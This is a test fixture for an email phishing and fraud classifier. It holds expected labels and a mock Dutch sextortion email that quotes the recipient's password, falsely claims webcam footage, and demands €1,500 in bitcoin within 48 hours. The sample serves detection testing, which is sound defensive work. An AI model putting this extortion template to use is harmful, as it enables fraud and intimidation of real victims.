    todo: 'phishing/high: content_extortion, sender_domain_suspicious_tld, content_urgency_threat, content_payment_request, auth_dkim_missing, auth_results_missing; caught as phishing, not fraud: content_extortion and content_payment_request ("in bitcoin over") now fire and extortion_with_payment_channel decides fraud, but lure_from_throwaway_domain (urgency from a .xyz domain) decides phishing and the policy reads phishing before fraud; the case\'s bc1q address is no valid Bech32 (it holds i, o and 1), so no content_crypto_address',
    raw: mail({
      from: 'Anoniem <no-reply@hrvlmq-online.xyz>',
      to: 'pieter.vermeulen@xs4all.nl',
      subject: 'pieter.vermeulen - wachtwoord: Vermeulen1975!',
      date: 'Wed, 6 Aug 2025 03:18:47 +0200',
      messageId: '20250806011847.9a2c@hrvlmq-online.xyz',
      relay: 'mail.hrvlmq-online.xyz [203.0.113.250]',
      auth: { dkim: 'none', spf: 'none', dmarc: 'none' },
      body: plain(
        "Hallo Pieter,\n\nJe wachtwoord is Vermeulen1975!. Ik weet het, want ik heb al maanden toegang tot je apparaten. Via een website voor volwassenen heb ik malware op je computer gezet en met je camera opnames gemaakt terwijl je naar die video's keek.\n\nIk heb ook al je contacten: familie, collega's en vrienden.\n\nMaak binnen 48 uur € 1.500 in bitcoin over naar dit adres:\nbc1q4k8n2m7x5v9c3z1l6p0w8r2t4y6u8i0o3e5a7s\n\nAls ik het geld ontvang, verwijder ik alles. Zo niet, dan stuur ik de video naar iedereen in je contactenlijst. Antwoorden heeft geen zin en de politie kan je niet helpen.",
      ),
    }),
  },
];
